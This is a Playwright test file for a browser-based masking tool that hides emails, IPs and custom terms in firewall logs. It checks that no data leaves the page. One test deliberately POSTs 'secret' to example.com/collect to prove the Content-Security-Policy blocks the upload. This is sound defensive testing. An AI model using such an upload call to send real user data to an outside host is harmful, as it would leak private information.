import { expect, test, type Page, type Request } from '@playwright/test';
import { CUSTOM_VALUE, FIREWALL_LOG, SENSITIVE_VALUES } from './tool-fixtures';

interface Recorded { url: string; method: string; postData: string | null; headers: Record<string, string> }

function recordTraffic(page: Page) {
  const requests: Recorded[] = [];
  const consoleProblems: string[] = [];
  page.on('request', (request: Request) => {
    requests.push({ url: request.url(), method: request.method(), postData: request.postData(), headers: request.headers() });
  });
  page.on('console', (message) => {
    // The favicon is the site chrome's concern, not the tool's.
    if (message.location().url.endsWith('/favicon.ico')) return;
    if (message.type() === 'error' || /Content Security Policy/i.test(message.text())) consoleProblems.push(message.text());
  });
  page.on('pageerror', (error) => consoleProblems.push(`pageerror: ${error.message}`));
  return { requests, consoleProblems };
}

const output = (page: Page) => page.getByRole('region', { name: 'Output' });

async function fillInput(page: Page, text: string) {
  await page.getByLabel('Input', { exact: true }).fill(text);
}

/** Sets a very large value the way a paste does (one input event), which fill() is too slow for. */
async function pasteLarge(page: Page, text: string) {
  await page.getByLabel('Input', { exact: true }).evaluate((area, value) => {
    Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value')!.set!.call(area, value);
    area.dispatchEvent(new Event('input', { bubbles: true }));
  }, text);
}

test.describe('/tool', () => {
  test('the whole flow on a firewall log stays in the browser', async ({ page, context, baseURL }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: baseURL });
    const traffic = recordTraffic(page);
    await page.goto('/tool/');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();

    // Custom rule
    await page.getByLabel('Text to mask', { exact: true }).fill(CUSTOM_VALUE);
    await page.getByLabel('Category', { exact: true }).selectOption('Business Information');
    await page.getByLabel('Subcategory', { exact: true }).selectOption('Company Name');
    await page.getByRole('button', { name: 'Add Rule' }).click();
    await expect(page.getByRole('list', { name: 'Custom rules in use' })).toContainText(CUSTOM_VALUE);

    // Replace
    await fillInput(page, FIREWALL_LOG);
    await page.getByRole('button', { name: 'Replace', exact: true }).click();
    await expect(output(page)).toHaveAttribute('data-state', 'done');
    const replaced = (await output(page).textContent()) ?? '';
    for (const value of SENSITIVE_VALUES) expect(replaced, `output still contains ${value}`).not.toContain(value);
    expect(replaced.split('\n')).toHaveLength(FIREWALL_LOG.split('\n').length);
    expect(replaced).toContain('2024-03-14T09:21:07Z fw01 ACCEPT TCP src=');
    await expect(output(page).locator('mark[data-source="custom"]').first()).toBeVisible();
    await expect(output(page).locator('mark[data-source="pattern"]').first()).toBeVisible();
    await expect(output(page).locator('mark[data-source="keyword"]').first()).toBeVisible();

    // Chart canvas actually drawn
    const canvas = page.getByRole('img', { name: /Detections by source/ });
    await expect(canvas).toBeVisible();
    await expect
      .poll(() =>
        canvas.evaluate((el) => {
          const c = el as HTMLCanvasElement;
          const data = c.getContext('2d')!.getImageData(0, 0, c.width, c.height).data;
          let painted = 0;
          for (let i = 3; i < data.length; i += 4) if (data[i] > 0) painted++;
          return painted;
        }),
      )
      .toBeGreaterThan(500);

    // Lists filled
    await expect(page.getByRole('list', { name: /Custom Rules/ }).getByRole('listitem')).toHaveCount(1);
    expect(await page.getByRole('list', { name: /Pattern Rules/ }).getByRole('listitem').count()).toBeGreaterThanOrEqual(6);
    expect(await page.getByRole('list', { name: /Keyword Rules/ }).getByRole('listitem').count()).toBeGreaterThanOrEqual(1);

    // × puts a false positive back at once
    await page.getByRole('button', { name: 'Remove 192.168.50.7' }).click();
    await expect(output(page)).toContainText('peer=192.168.50.7 user=');
    await expect(page.getByRole('list', { name: /Pattern Rules/ })).not.toContainText('192.168.50.7');

    // Copy puts exactly the shown output on the clipboard
    const shown = (await page.getByTestId('output-text').textContent()) ?? '';
    await page.getByRole('button', { name: 'Copy', exact: true }).click();
    await expect(page.getByRole('button', { name: 'Copied!' })).toBeVisible();
    const clipboard = await page.evaluate(() => navigator.clipboard.readText());
    expect(clipboard).toBe(shown);
    expect(clipboard).toContain('192.168.50.7');
    for (const value of SENSITIVE_VALUES.filter((v) => v !== '192.168.50.7')) expect(clipboard).not.toContain(value);
    await expect(page.getByRole('button', { name: 'Copy', exact: true })).toBeVisible({ timeout: 3000 });

    // Download saves the same text as a .txt file
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download .txt' }).click()]);
    expect(download.suggestedFilename()).toMatch(/\.txt$/);
    const { readFile } = await import('node:fs/promises');
    expect(await readFile((await download.path())!, 'utf8')).toBe(shown);

    // Restore: an AI answer quoting a fake (case changed) from Replace and labels from a Mask run
    const fakeEmail = await page.getByRole('list', { name: /Pattern Rules/ }).getByRole('listitem')
      .filter({ hasText: 'jsmith@initech.com' }).getAttribute('data-masked');
    expect(fakeEmail).toBeTruthy();
    await page.getByRole('button', { name: 'Mask', exact: true }).click();
    await expect(output(page)).toContainText('[Masked Email 1]');
    const masked = (await output(page).textContent()) ?? '';
    const ipLabel = /src=(\[Masked Internal IPv4 \d+\])/.exec(masked)?.[1];
    expect(ipLabel).toBeTruthy();
    const emailLabel = masked.includes('user=[Masked Email 1]') ? '[Masked Email 1]' : /user=(\[Masked Email \d+\])/.exec(masked)![1];
    const answer = [
      `The login failures come from ${emailLabel.toLowerCase()} on ${ipLabel!.replace(/[[\]]/g, '')}.`,
      `Also check ${fakeEmail!.toUpperCase()} and [Masked Email 99].`,
    ].join('\n');
    await page.getByLabel('Text to restore', { exact: true }).fill(answer);
    const restored = page.getByRole('region', { name: 'Restored text' });
    await expect(restored).toHaveText(
      'The login failures come from jsmith@initech.com on 10.12.4.21.\nAlso check jsmith@initech.com and [Masked Email 99].',
    );
    await expect(page.getByRole('list', { name: 'Substitutes not restored' })).toHaveText('[Masked Email 99]');

    // Clear resets everything
    await page.getByRole('button', { name: 'Clear', exact: true }).click();
    await expect(page.getByLabel('Input', { exact: true })).toHaveValue('');
    await expect(output(page)).toHaveText('Output will appear here...');
    await expect(page.getByRole('heading', { name: 'Rules Distribution' })).toHaveCount(0);
    await expect(page.getByLabel('Text to restore', { exact: true })).toHaveValue('');

    // Nothing left the page
    const origin = new URL(baseURL!).origin;
    expect(traffic.requests.length).toBeGreaterThan(0);
    for (const request of traffic.requests) {
      const url = new URL(request.url);
      expect(['data:', 'blob:'].includes(url.protocol) || url.origin === origin, `request to another origin: ${request.url}`).toBe(true);
      const carried = `${request.url}\n${request.postData ?? ''}\n${JSON.stringify(request.headers)}`;
      for (const value of SENSITIVE_VALUES) {
        expect(carried, `request carries ${value}`).not.toContain(value);
        expect(carried).not.toContain(encodeURIComponent(value));
      }
    }
    expect(traffic.consoleProblems).toEqual([]);
  });

  test('the Content-Security-Policy makes the browser refuse connections to other origins', async ({ page }) => {
    const traffic = recordTraffic(page);
    await page.goto('/tool/');
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(policy).toContain("default-src 'self'");
    expect(policy).toContain("connect-src 'self'");
    expect(policy).not.toMatch(/https?:/);

    // The tool works under the policy (worker, chart) …
    await fillInput(page, FIREWALL_LOG);
    await page.getByRole('button', { name: 'Mask', exact: true }).click();
    await expect(output(page)).toContainText('[Masked Email 1]');
    await expect(page.getByRole('img', { name: /Detections by source/ })).toBeVisible();

    // … and an upload attempt is blocked by the browser itself.
    const attempt = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
      let refused = false;
      try {
        await fetch('https://example.com/collect', { method: 'POST', body: 'secret' });
      } catch {
        refused = true;
      }
      await new Promise((r) => setTimeout(r, 100));
      return { refused, violations };
    });
    expect(attempt.refused).toBe(true);
    expect(attempt.violations).toEqual([expect.stringMatching(/^connect-src https:\/\/example\.com/)]);
    expect(traffic.requests.filter((r) => r.url.startsWith('https://example.com'))).toEqual([]);
    expect(traffic.consoleProblems.filter((m) => !/example\.com/.test(m))).toEqual([]);
  });

  test('a log file opened from disk is read into the input without any upload', async ({ page, baseURL }) => {
    const traffic = recordTraffic(page);
    await page.goto('/tool/');
    const before = traffic.requests.length;
    const chooser = page.waitForEvent('filechooser');
    await page.getByRole('button', { name: 'Open file…' }).click();
    await (await chooser).setFiles({ name: 'firewall.log', mimeType: 'text/plain', buffer: Buffer.from(FIREWALL_LOG) });
    await expect(page.getByLabel('Input', { exact: true })).toHaveValue(FIREWALL_LOG);
    await expect(page.getByText(/Opened firewall\.log/)).toBeVisible();
    const after = traffic.requests.slice(before);
    for (const request of after) {
      expect(new URL(request.url).origin).toBe(new URL(baseURL!).origin);
      expect(request.postData ?? '').not.toContain('jsmith@initech.com');
    }
  });

  test('over-limit input is refused with a clear message and large output stays responsive', async ({ page }) => {
    await page.goto('/tool/');
    const line = '2024-03-14T09:21:07Z fw01 ACCEPT src=10.12.4.21:51544 dst=52.94.236.248:443 user=jsmith@initech.com\n';
    const big = line.repeat(Math.ceil(1_000_001 / line.length)).slice(0, 1_000_001);
    await pasteLarge(page, big);
    await expect(page.getByText('The input is 1 character over the 1,000,000-character limit')).toBeVisible();
    const replace = page.getByRole('button', { name: 'Replace', exact: true });
    await expect(replace).toHaveAttribute('aria-disabled', 'true');
    await replace.click({ force: true });
    await expect(output(page)).toHaveText('Output will appear here...');
    await pasteLarge(page, big.slice(0, 1_000_000));
    await expect(page.getByText(/character over the|characters over the/)).toBeHidden();
    await page.getByRole('button', { name: 'Replace', exact: true }).click();
    await expect(output(page)).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
    // Virtualised: only the rows on screen are in the DOM.
    const rows = await page.getByTestId('output-text').evaluate((el) => el.querySelectorAll('mark').length);
    expect(rows).toBeGreaterThan(0);
    expect(rows).toBeLessThan(1000);
    await page.getByTestId('output-text').evaluate((el) => { el.scrollTop = el.scrollHeight; });
    await expect(page.getByTestId('output-text')).not.toContainText('jsmith@initech.com');
  });
});
